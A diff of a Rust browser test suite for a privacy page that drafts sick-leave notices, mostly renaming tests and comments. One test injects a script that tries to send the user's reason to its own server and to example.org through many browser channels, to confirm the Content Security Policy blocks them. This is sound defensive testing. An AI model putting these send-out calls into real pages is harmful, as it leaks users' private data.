@@ -1,54 +1,54 @@
-//! "We send nothing and keep nothing." Every journey is guarded; here the page is tempted.
+//! "We send nothing and keep nothing." The guard checks this in every journey; here scripts on the page try to send.
 
 use anyhow::{Result, ensure};
 use journeys::{Expected, Key, Setting, Site, journey};
 use policy::{Band, MessageKind, Reason};
 
 #[test]
-fn once_loaded_the_browser_itself_refuses_every_connection() -> Result<()> {
+fn the_policy_blocks_every_request_after_loading() -> Result<()> {
     let refusals = ["connect-src", "img-src", "media-src", "frame-src", "Content Security Policy"];
     let setting = refusals.into_iter().fold(Setting::desktop()?, Setting::expecting);
     journey(setting, |page| {
         page.open()?;
         page.choose_reason(Reason::Illness)?;
-        // Not even to its own server; and the guard sees whether any of it goes out.
+        // Not even to its own server. The guard finds any request that is sent.
         page.run_script(
-            "const way = (there) => {
-                 try { there() } catch {}
+            "const attempt = (send) => {
+                 try { send() } catch {}
              };
              for (const address of ['/?said=illness', 'https://example.org/?said=illness']) {
-                 way(() => fetch(address).catch(() => {}));
-                 way(() => navigator.sendBeacon(address, 'illness'));
-                 way(() => new EventSource(address));
-                 way(() => { const one = new XMLHttpRequest(); one.open('POST', address); one.send('illness') });
-                 way(() => { new Image().src = address });
-                 way(() => document.body.append(Object.assign(document.createElement('iframe'), { src: address })));
-                 way(() => document.body.append(Object.assign(document.createElement('video'), { src: address })));
+                 attempt(() => fetch(address).catch(() => {}));
+                 attempt(() => navigator.sendBeacon(address, 'illness'));
+                 attempt(() => new EventSource(address));
+                 attempt(() => { const one = new XMLHttpRequest(); one.open('POST', address); one.send('illness') });
+                 attempt(() => { new Image().src = address });
+                 attempt(() => document.body.append(Object.assign(document.createElement('iframe'), { src: address })));
+                 attempt(() => document.body.append(Object.assign(document.createElement('video'), { src: address })));
              }
-             way(() => new WebSocket('wss://example.org/?said=illness'));",
+             attempt(() => new WebSocket('wss://example.org/?said=illness'));",
         )?;
-        // Time to go out, for whatever would.
+        // Leaves time for requests to be sent.
         page.choose_notice(Band::Under24h)?;
         page.wait_for_verdict("another time")
     })
 }
 
 #[test]
-fn the_headers_made_for_servers_let_the_page_do_its_work() -> Result<()> {
-    let headed = Setting::desktop()?.try_serving(Site::with_published_headers)?;
-    journey(headed, |page| {
+fn the_page_works_with_the_published_headers() -> Result<()> {
+    let setting = Setting::desktop()?.try_serving(Site::with_published_headers)?;
+    journey(setting, |page| {
         page.open()?;
         page.choose_reason(Reason::Illness)?;
         page.choose_notice(Band::Under24h)?;
         page.reset_clipboard()?;
         page.press("Copy email")?;
         page.wait_for_status("Copied")?;
-        // These headers let no script read the clipboard; a person can still paste.
+        // These headers let no script read the clipboard, so paste.
         let text = page.find("textbox", "Text")?;
         page.tap(&text)?;
         page.key(Key::SelectAll)?;
         page.key(Key::Backspace)?;
-        ensure!(page.message()?.is_empty(), "the text cannot be deleted");
+        ensure!(page.message()?.is_empty(), "the text is not deleted");
         page.key(Key::Paste)?;
         let expected = Expected::of(Reason::Illness, Band::Under24h);
         ensure!(page.message()? == expected.message(MessageKind::Email)?.body, "pasted: {}", page.message()?);
@@ -56,14 +56,15 @@ fn the_headers_made_for_servers_let_the_page_do_its_work() -> Result<()> {
     })
 }
 
-/// A careers page, say, that shows ours in a frame.
-const AROUND: &str = "<!doctype html><html lang=en data-start=ready><title>Careers</title><link rel=icon href=data:,>
+/// A careers page with the single-file page in a frame.
+const CAREERS_PAGE: &str =
+    "<!doctype html><html lang=en data-start=ready><title>Careers</title><link rel=icon href=data:,>
     <iframe src=/rain-check.html title='Rain Check' width=900 height=500></iframe>
     <p><label>Pasted <textarea></textarea></label>";
 
 #[test]
-fn the_page_in_one_file_does_its_work_in_a_frame_of_another_page() -> Result<()> {
-    let site = |site: Site| site.with_page("careers.html", AROUND).with_published_headers();
+fn the_single_file_works_in_a_frame() -> Result<()> {
+    let site = |site: Site| site.with_page("careers.html", CAREERS_PAGE).with_published_headers();
     journey(Setting::desktop()?.try_serving(site)?, |page| {
         page.open_path("careers.html")?;
         page.reset_clipboard()?;
@@ -84,12 +85,12 @@ fn the_page_in_one_file_does_its_work_in_a_frame_of_another_page() -> Result<()>
 }
 
 #[test]
-fn the_page_can_be_kept_as_one_file() -> Result<()> {
+fn the_page_links_to_its_single_file() -> Result<()> {
     journey(Setting::desktop()?, |page| {
         page.open()?;
         let link = page.find("link", "Keep this page as one file")?;
-        let goes = page.script_on(&link, "return [arguments[0].pathname, arguments[0].download !== null]")?;
-        ensure!(goes == serde_json::json!(["/rain-check.html", true]), "it goes to {goes}");
+        let link_target = page.script_on(&link, "return [arguments[0].pathname, arguments[0].download !== null]")?;
+        ensure!(link_target == serde_json::json!(["/rain-check.html", true]), "the link has {link_target}");
         Ok(())
     })
 }
